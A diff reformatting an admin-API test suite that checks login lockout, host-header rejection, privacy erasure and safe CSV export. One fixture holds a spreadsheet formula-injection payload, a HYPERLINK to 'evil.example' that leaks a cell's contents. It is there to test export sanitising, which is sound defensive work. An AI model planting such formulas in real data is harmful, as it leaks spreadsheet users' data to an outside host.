@@ -6,7 +6,16 @@
 import { count, desc, eq } from "drizzle-orm";
 import Papa from "papaparse";
 import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
-import type { AuditEntry, EnquiryDetail, EnquirySummary, Overview, Page, PrivacyReport, SubscriberRow, WaitlistRow } from "../../core/admin-api";
+import type {
+  AuditEntry,
+  EnquiryDetail,
+  EnquirySummary,
+  Overview,
+  Page,
+  PrivacyReport,
+  SubscriberRow,
+  WaitlistRow,
+} from "../../core/admin-api";
 import { revokeAdmin } from "./accounts.server";
 import { LOGIN_LIMITS } from "../auth/login-throttle.server";
 import { UNKNOWN_HOST } from "../auth/routes.server";
@@ -76,7 +85,11 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
         const anonymous = await api.api(path, { method, body });
         expect(anonymous.status, `${method} ${path} anonymous`).toBe(401);
         // The public key is not a session either.
-        const withKey = await api.api(path, { method, body, headers: { apikey: "test-public-key", authorization: "Bearer test-public-key" } });
+        const withKey = await api.api(path, {
+          method,
+          body,
+          headers: { apikey: "test-public-key", authorization: "Bearer test-public-key" },
+        });
         expect(withKey.status, `${method} ${path} with the public key`).toBe(401);
         const member = await api.api(path, { method, body, cookie: memberCookie });
         expect(member.status, `${method} ${path} non-admin`).toBe(403);
@@ -143,9 +156,14 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
     });
 
     it("offers no public sign-up and none of the other account endpoints", async () => {
-      const signUp = await api.api("/auth/sign-up/email", { method: "POST", body: { email: "new@example.com", password: "a-long-password-1", name: "New" } });
+      const signUp = await api.api("/auth/sign-up/email", {
+        method: "POST",
+        body: { email: "new@example.com", password: "a-long-password-1", name: "New" },
+      });
       expect(signUp.status).toBe(404);
-      expect((await api.api("/auth/request-password-reset", { method: "POST", body: { email: ADMIN.email } })).status).toBe(404);
+      expect(
+        (await api.api("/auth/request-password-reset", { method: "POST", body: { email: ADMIN.email } })).status,
+      ).toBe(404);
       expect((await api.db.select({ n: count() }).from(user))[0]!.n).toBe(2);
     });
 
@@ -164,7 +182,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       const locked = await api.signIn(ADMIN.email, ADMIN.password, { ip: "192.0.2.1" });
       expect(locked.status).toBe(429);
       expect(Number(locked.headers.get("retry-after"))).toBeGreaterThan(14 * 60);
-      expect(((await locked.json()) as { error: string }).error).toBe("Too many sign-in attempts. Please try again in 15 minutes.");
+      expect(((await locked.json()) as { error: string }).error).toBe(
+        "Too many sign-in attempts. Please try again in 15 minutes.",
+      );
       // Other accounts are not affected.
       expect((await api.signIn(MEMBER.email, MEMBER.password, { ip: "192.0.2.1" })).status).toBe(200);
       api.advance(LOGIN_LIMITS.lockMs + 1000);
@@ -174,7 +194,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
     it("an attacker cannot lock the admin out: from an address that has not failed, the right password still signs in", async () => {
       const attacker = "203.0.113.66";
       for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures + 2; attempt++) {
-        expect((await api.signIn(ADMIN.email, `guess-${attempt}`, { ip: attacker })).status).toBe(attempt < LOGIN_LIMITS.accountFailures ? 401 : 429);
+        expect((await api.signIn(ADMIN.email, `guess-${attempt}`, { ip: attacker })).status).toBe(
+          attempt < LOGIN_LIMITS.accountFailures ? 401 : 429,
+        );
       }
       // The attacker's address is refused even with the right password, without a password check.
       const checks = api.passwordChecks();
@@ -195,7 +217,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
     it(`${LOGIN_LIMITS.accountFailures * 4} parallel wrong passwords for one account: at most ${LOGIN_LIMITS.accountFailures} reach the password check`, async () => {
       const before = api.passwordChecks();
       const responses = await Promise.all(
-        Array.from({ length: LOGIN_LIMITS.accountFailures * 4 }, (_, attempt) => api.signIn(ADMIN.email, `parallel-${attempt}`, { ip: "203.0.113.70" })),
+        Array.from({ length: LOGIN_LIMITS.accountFailures * 4 }, (_, attempt) =>
+          api.signIn(ADMIN.email, `parallel-${attempt}`, { ip: "203.0.113.70" }),
+        ),
       );
       const statuses = responses.map((response) => response.status);
       expect(api.passwordChecks() - before).toBeLessThanOrEqual(LOGIN_LIMITS.accountFailures);
@@ -203,7 +227,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       expect(statuses.every((status) => [401, 429, 503].includes(status))).toBe(true);
       // Everything past the tenth is refused by the count (429), or shed by a full hash queue before it was counted (503).
       const shed = statuses.filter((status) => status === 503).length;
-      expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(LOGIN_LIMITS.accountFailures * 3 - shed);
+      expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(
+        LOGIN_LIMITS.accountFailures * 3 - shed,
+      );
       // The admin still signs in from elsewhere.
       expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.21" })).status).toBe(200);
     }, 30_000);
@@ -211,7 +237,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
     it(`${LOGIN_LIMITS.ipFailures * 2} parallel wrong passwords from one address over several accounts: at most ${LOGIN_LIMITS.ipFailures} reach the password check`, async () => {
       const before = api.passwordChecks();
       const responses = await Promise.all(
-        Array.from({ length: LOGIN_LIMITS.ipFailures * 2 }, (_, attempt) => api.signIn(`victim${attempt % 10}@drivebee.ae`, "guess", { ip: "198.51.100.77" })),
+        Array.from({ length: LOGIN_LIMITS.ipFailures * 2 }, (_, attempt) =>
+          api.signIn(`victim${attempt % 10}@drivebee.ae`, "guess", { ip: "198.51.100.77" }),
+        ),
       );
       const statuses = responses.map((response) => response.status);
       expect(api.passwordChecks() - before).toBeLessThanOrEqual(LOGIN_LIMITS.ipFailures);
@@ -219,7 +247,8 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       expect(statuses.every((status) => [401, 429, 503].includes(status))).toBe(true);
       const shed = statuses.filter((status) => status === 503).length;
       expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(LOGIN_LIMITS.ipFailures - shed);
-      for (const response of responses.filter((r) => r.status === 503)) expect(Number(response.headers.get("retry-after"))).toBeGreaterThan(0);
+      for (const response of responses.filter((r) => r.status === 503))
+        expect(Number(response.headers.get("retry-after"))).toBeGreaterThan(0);
     }, 30_000);
 
     it("locks a non-existent address exactly like a real one (a lock reveals nothing)", async () => {
@@ -253,7 +282,10 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
     }, 30_000);
 
     it("rejects a malformed login with the same message and no lookup", async () => {
-      const response = await api.api("/auth/sign-in/email", { method: "POST", body: { email: "not-an-email", password: "" } });
+      const response = await api.api("/auth/sign-in/email", {
+        method: "POST",
+        body: { email: "not-an-email", password: "" },
+      });
       expect(response.status).toBe(400);
       expect(await response.json()).toEqual({ error: "Invalid email or password" });
     });
@@ -271,7 +303,12 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       for (const { method, path } of routes) {
         for (const host of ["evil.example", "drivebee.ae.evil.example", "localhost.evil.example:3000"]) {
           const body = method === "GET" ? undefined : path === "/auth/sign-in/email" ? ADMIN : {};
-          const response = await api.api(path, { method, body, cookie: adminCookie, headers: { host, origin: `https://${host}` } });
+          const response = await api.api(path, {
+            method,
+            body,
+            cookie: adminCookie,
+            headers: { host, origin: `https://${host}` },
+          });
           expect(response.status, `${method} ${path} at ${host}`).toBe(400);
           expect(await response.json(), `${method} ${path} at ${host}`).toEqual({ error: UNKNOWN_HOST });
         }
@@ -302,7 +339,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       const development = await createHarness({ databaseUrl, nodeEnv: "development" });
       try {
         await development.createUser(ADMIN.email, ADMIN.password);
-        expect((await development.signIn(ADMIN.email, ADMIN.password, { at: "http://localhost:3000" })).status).toBe(200);
+        expect((await development.signIn(ADMIN.email, ADMIN.password, { at: "http://localhost:3000" })).status).toBe(
+          200,
+        );
       } finally {
         await development.close();
       }
@@ -314,15 +353,27 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       await sendContact({ firstName: "Omar", email: "omar@example.com", subject: "Fleet policy" });
       await sendContact({ firstName: "Aisha", email: "aisha@example.com", subject: "Cashback timing" }, "203.0.113.51");
       const newsletterToken = await api.csrf();
-      expect((await api.call("newsletter-signup", { body: { email: "reader@example.com", source: "footer", userAgent: "test", ...newsletterToken } })).status).toBe(201);
+      expect(
+        (
+          await api.call("newsletter-signup", {
+            body: { email: "reader@example.com", source: "footer", userAgent: "test", ...newsletterToken },
+          })
+        ).status,
+      ).toBe(201);
       expect((await api.call("android-waitlist-signup", { body: { email: "android@example.com" } })).status).toBe(200);
 
-      const enquiries = (await (await api.api("/admin/enquiries", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      const enquiries = (await (
+        await api.api("/admin/enquiries", { cookie: adminCookie })
+      ).json()) as Page<EnquirySummary>;
       expect(enquiries.total).toBe(2);
       expect(enquiries.pageSize).toBe(50);
       expect(enquiries.rows.map((row) => row.email).sort()).toEqual(["aisha@example.com", "omar@example.com"]);
-      const subscribers = (await (await api.api("/admin/subscribers", { cookie: adminCookie })).json()) as Page<SubscriberRow>;
-      expect(subscribers.rows.map((row) => [row.email, row.source, row.status])).toEqual([["reader@example.com", "footer", "subscribed"]]);
+      const subscribers = (await (
+        await api.api("/admin/subscribers", { cookie: adminCookie })
+      ).json()) as Page<SubscriberRow>;
+      expect(subscribers.rows.map((row) => [row.email, row.source, row.status])).toEqual([
+        ["reader@example.com", "footer", "subscribed"],
+      ]);
       const waitlist = (await (await api.api("/admin/waitlist", { cookie: adminCookie })).json()) as Page<WaitlistRow>;
       expect(waitlist.rows.map((row) => row.email)).toEqual(["android@example.com"]);
 
@@ -347,12 +398,18 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       const first = (await (await api.api("/admin/enquiries", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
       expect(first.rows).toHaveLength(50);
       expect(first.total).toBe(55);
-      const second = (await (await api.api("/admin/enquiries?page=2", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      const second = (await (
+        await api.api("/admin/enquiries?page=2", { cookie: adminCookie })
+      ).json()) as Page<EnquirySummary>;
       expect(second.rows).toHaveLength(5);
       // % and _ are literal characters in a search.
-      const found = (await (await api.api(`/admin/enquiries?q=${encodeURIComponent("100%_c")}`, { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      const found = (await (
+        await api.api(`/admin/enquiries?q=${encodeURIComponent("100%_c")}`, { cookie: adminCookie })
+      ).json()) as Page<EnquirySummary>;
       expect(found.rows.map((row) => row.email)).toEqual(["person7@example.com"]);
-      const none = (await (await api.api(`/admin/enquiries?status=resolved`, { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      const none = (await (
+        await api.api(`/admin/enquiries?status=resolved`, { cookie: adminCookie })
+      ).json()) as Page<EnquirySummary>;
       expect(none.total).toBe(0);
       expect((await api.api("/admin/enquiries?page=0", { cookie: adminCookie })).status).toBe(400);
       expect((await api.api("/admin/enquiries?status=deleted", { cookie: adminCookie })).status).toBe(400);
@@ -362,10 +419,16 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       await sendContact({});
       const [row] = await api.db.select().from(contactEnquiries);
       for (const status of ["in_progress", "resolved"] as const) {
-        const response = await api.api(`/admin/enquiries/${row!.id}`, { method: "PATCH", body: { status }, cookie: adminCookie });
+        const response = await api.api(`/admin/enquiries/${row!.id}`, {
+          method: "PATCH",
+          body: { status },
+          cookie: adminCookie,
+        });
         expect(response.status).toBe(200);
       }
-      const detail = (await (await api.api(`/admin/enquiries/${row!.id}`, { cookie: adminCookie })).json()) as EnquiryDetail;
+      const detail = (await (
+        await api.api(`/admin/enquiries/${row!.id}`, { cookie: adminCookie })
+      ).json()) as EnquiryDetail;
       expect(detail.status).toBe("resolved");
       expect(detail.resolvedAt).not.toBeNull();
       expect(detail.message).toBe("How is the cashback paid at renewal?");
@@ -375,8 +438,24 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
         [ADMIN.email, { from: "in_progress", to: "resolved" }],
         [ADMIN.email, { from: "new", to: "in_progress" }],
       ]);
-      expect((await api.api(`/admin/enquiries/${row!.id}`, { method: "PATCH", body: { status: "closed" }, cookie: adminCookie })).status).toBe(400);
-      expect((await api.api(`/admin/enquiries/${SOME_ID}`, { method: "PATCH", body: { status: "resolved" }, cookie: adminCookie })).status).toBe(404);
+      expect(
+        (
+          await api.api(`/admin/enquiries/${row!.id}`, {
+            method: "PATCH",
+            body: { status: "closed" },
+            cookie: adminCookie,
+          })
+        ).status,
+      ).toBe(400);
+      expect(
+        (
+          await api.api(`/admin/enquiries/${SOME_ID}`, {
+            method: "PATCH",
+            body: { status: "resolved" },
+            cookie: adminCookie,
+          })
+        ).status,
+      ).toBe(404);
       expect((await api.api(`/admin/enquiries/not-a-uuid`, { cookie: adminCookie })).status).toBe(404);
     });
 
@@ -385,7 +464,7 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
         firstName: "Eve",
         lastName: "Attacker",
         subject: '=HYPERLINK("https://evil.example?x="&A1,"Click")',
-        message: "@SUM(1+1) and <b>markup</b> in the text, plus a quote \" and a comma, here",
+        message: '@SUM(1+1) and <b>markup</b> in the text, plus a quote " and a comma, here',
       });
       // Stored directly: the public form would refuse these, an old row or another channel might not.
       await api.db.insert(contactEnquiries).values({
@@ -398,9 +477,14 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       const response = await api.api("/admin/enquiries/export.csv", { cookie: adminCookie });
       expect(response.status).toBe(200);
       expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-      expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="enquiries-\d{4}-\d{2}-\d{2}\.csv"$/);
+      expect(response.headers.get("content-disposition")).toMatch(
+        /^attachment; filename="enquiries-\d{4}-\d{2}-\d{2}\.csv"$/,
+      );
       const text = await response.text();
-      const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
+      const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), {
+        header: true,
+        skipEmptyLines: true,
+      });
       expect(parsed.errors).toEqual([]);
       for (const row of parsed.data) {
         for (const [column, value] of Object.entries(row)) {
@@ -418,14 +502,27 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
     });
 
     it("unsubscribes a subscriber and marks a waitlist entry notified, with CSV exports", async () => {
-      const [subscriber] = await api.db.insert(newsletterSubscribers).values({ email: "reader@example.com", source: "popup" }).returning();
+      const [subscriber] = await api.db
+        .insert(newsletterSubscribers)
+        .values({ email: "reader@example.com", source: "popup" })
+        .returning();
       const [entry] = await api.db.insert(androidWaitlist).values({ email: "android@example.com" }).returning();
-      const unsubscribed = (await (await api.api(`/admin/subscribers/${subscriber!.id}/unsubscribe`, { method: "POST", body: {}, cookie: adminCookie })).json()) as SubscriberRow;
+      const unsubscribed = (await (
+        await api.api(`/admin/subscribers/${subscriber!.id}/unsubscribe`, {
+          method: "POST",
+          body: {},
+          cookie: adminCookie,
+        })
+      ).json()) as SubscriberRow;
       expect(unsubscribed.status).toBe("unsubscribed");
       expect(unsubscribed.unsubscribedAt).not.toBeNull();
-      const notified = (await (await api.api(`/admin/waitlist/${entry!.id}/notified`, { method: "POST", body: {}, cookie: adminCookie })).json()) as WaitlistRow;
+      const notified = (await (
+        await api.api(`/admin/waitlist/${entry!.id}/notified`, { method: "POST", body: {}, cookie: adminCookie })
+      ).json()) as WaitlistRow;
       expect(notified.notifiedAt).not.toBeNull();
-      const pending = (await (await api.api("/admin/waitlist?notified=no", { cookie: adminCookie })).json()) as Page<WaitlistRow>;
+      const pending = (await (
+        await api.api("/admin/waitlist?notified=no", { cookie: adminCookie })
+      ).json()) as Page<WaitlistRow>;
       expect(pending.total).toBe(0);
 
       const subscribersCsv = await (await api.api("/admin/subscribers/export.csv", { cookie: adminCookie })).text();
@@ -433,7 +530,14 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       const waitlistCsv = await (await api.api("/admin/waitlist/export.csv", { cookie: adminCookie })).text();
       expect(waitlistCsv).toContain('"android@example.com","app_download_dialog"');
       const actions = (await api.db.select({ action: auditLog.action }).from(auditLog)).map((row) => row.action);
-      expect(actions).toEqual(expect.arrayContaining(["subscriber.unsubscribe", "waitlist.notified", "subscribers.export", "waitlist.export"]));
+      expect(actions).toEqual(
+        expect.arrayContaining([
+          "subscriber.unsubscribe",
+          "waitlist.notified",
+          "subscribers.export",
+          "waitlist.export",
+        ]),
+      );
     });
   });
 
@@ -444,15 +548,35 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       await api.db.insert(androidWaitlist).values({ email: "subject@example.com" });
       await api.db.insert(newsletterSubscribers).values({ email: "bystander@example.com", source: "footer" });
 
-      const report = (await (await api.api("/admin/privacy/lookup", { method: "POST", body: { email: "SUBJECT@example.com" }, cookie: adminCookie })).json()) as PrivacyReport;
+      const report = (await (
+        await api.api("/admin/privacy/lookup", {
+          method: "POST",
+          body: { email: "SUBJECT@example.com" },
+          cookie: adminCookie,
+        })
+      ).json()) as PrivacyReport;
       expect([report.subscribers.length, report.waitlist.length, report.enquiries.length]).toEqual([1, 1, 1]);
 
-      const mismatch = await api.api("/admin/privacy/erase", { method: "POST", body: { email: "subject@example.com", confirmEmail: "other@example.com" }, cookie: adminCookie });
+      const mismatch = await api.api("/admin/privacy/erase", {
+        method: "POST",
+        body: { email: "subject@example.com", confirmEmail: "other@example.com" },
+        cookie: adminCookie,
+      });
       expect(mismatch.status).toBe(400);
-      expect(await mismatch.json()).toEqual({ error: "The confirmation does not match the address", field: "confirmEmail" });
+      expect(await mismatch.json()).toEqual({
+        error: "The confirmation does not match the address",
+        field: "confirmEmail",
+      });
 
-      const erased = await api.api("/admin/privacy/erase", { method: "POST", body: { email: "subject@example.com", confirmEmail: "Subject@example.com" }, cookie: adminCookie });
-      expect(await erased.json()).toEqual({ email: "subject@example.com", deleted: { subscribers: 1, waitlist: 1, enquiries: 1 } });
+      const erased = await api.api("/admin/privacy/erase", {
+        method: "POST",
+        body: { email: "subject@example.com", confirmEmail: "Subject@example.com" },
+        cookie: adminCookie,
+      });
+      expect(await erased.json()).toEqual({
+        email: "subject@example.com",
+        deleted: { subscribers: 1, waitlist: 1, enquiries: 1 },
+      });
       const left = await Promise.all([
         api.db.select({ n: count() }).from(newsletterSubscribers),
         api.db.select({ n: count() }).from(androidWaitlist),
@@ -460,7 +584,11 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       ]);
       expect(left.map(([row]) => row!.n)).toEqual([1, 0, 0]);
       const [entry] = await api.db.select().from(auditLog).where(eq(auditLog.action, "privacy.erase"));
-      expect(entry).toMatchObject({ actorEmail: ADMIN.email, target: "s***@example.com", details: { subscribers: 1, waitlist: 1, enquiries: 1 } });
+      expect(entry).toMatchObject({
+        actorEmail: ADMIN.email,
+        target: "s***@example.com",
+        details: { subscribers: 1, waitlist: 1, enquiries: 1 },
+      });
       // The log never holds the erased address itself.
       const everything = JSON.stringify(await api.db.select().from(auditLog));
       expect(everything).not.toContain("subject@example.com");
@@ -468,17 +596,30 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
 
     it("the lookup takes the address in a POST body: a GET with it in the query is gone, and the audit entry is masked", async () => {
       await api.db.insert(newsletterSubscribers).values({ email: "subject@example.com", source: "footer" });
-      for (const path of ["/admin/privacy?email=subject%40example.com", "/admin/privacy/lookup?email=subject%40example.com"]) {
+      for (const path of [
+        "/admin/privacy?email=subject%40example.com",
+        "/admin/privacy/lookup?email=subject%40example.com",
+      ]) {
         const byGet = await api.api(path, { cookie: adminCookie });
         expect([404, 405], path).toContain(byGet.status);
         expect(await byGet.text(), path).not.toContain("subject@example.com");
       }
       const noBody = await api.api("/admin/privacy/lookup", { method: "POST", cookie: adminCookie });
       expect(noBody.status).toBe(400);
-      const invalid = await api.api("/admin/privacy/lookup", { method: "POST", body: { email: "not-an-address" }, cookie: adminCookie });
+      const invalid = await api.api("/admin/privacy/lookup", {
+        method: "POST",
+        body: { email: "not-an-address" },
+        cookie: adminCookie,
+      });
       expect(await invalid.json()).toEqual({ error: "Please enter a valid email address", field: "email" });
 
-      const report = (await (await api.api("/admin/privacy/lookup", { method: "POST", body: { email: "subject@example.com" }, cookie: adminCookie })).json()) as PrivacyReport;
+      const report = (await (
+        await api.api("/admin/privacy/lookup", {
+          method: "POST",
+          body: { email: "subject@example.com" },
+          cookie: adminCookie,
+        })
+      ).json()) as PrivacyReport;
       expect(report.subscribers.map((row) => row.email)).toEqual(["subject@example.com"]);
       const entries = await api.db.select().from(auditLog).where(eq(auditLog.action, "privacy.lookup"));
       expect(entries).toHaveLength(1);
@@ -491,7 +632,9 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       await api.db.insert(newsletterSubscribers).values({ email: "layla.private@example.com", source: "footer" });
       await api.db.insert(androidWaitlist).values({ email: "layla.private@example.com" });
       for (const list of ["enquiries", "subscribers", "waitlist"]) {
-        const response = await api.api(`/admin/${list}/export.csv?q=Layla.Private%40example.com`, { cookie: adminCookie });
+        const response = await api.api(`/admin/${list}/export.csv?q=Layla.Private%40example.com`, {
+          cookie: adminCookie,
+        });
         expect(response.status, list).toBe(200);
         expect(await response.text(), list).toContain("layla.private@example.com");
       }
@@ -506,7 +649,12 @@ describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) =
       expect(JSON.stringify(exports).toLowerCase()).not.toContain("layla.private");
       // A search that is not an address keeps no more than its first character either.
       await api.api("/admin/enquiries/export.csv?q=Haddad", { cookie: adminCookie });
-      const [byName] = await api.db.select().from(auditLog).where(eq(auditLog.action, "enquiries.export")).orderBy(desc(auditLog.id)).limit(1);
+      const [byName] = await api.db
+        .select()
+        .from(auditLog)
+        .where(eq(auditLog.action, "enquiries.export"))
+        .orderBy(desc(auditLog.id))
+        .limit(1);
       expect(byName!.details).toMatchObject({ q: "H***" });
     });
   });
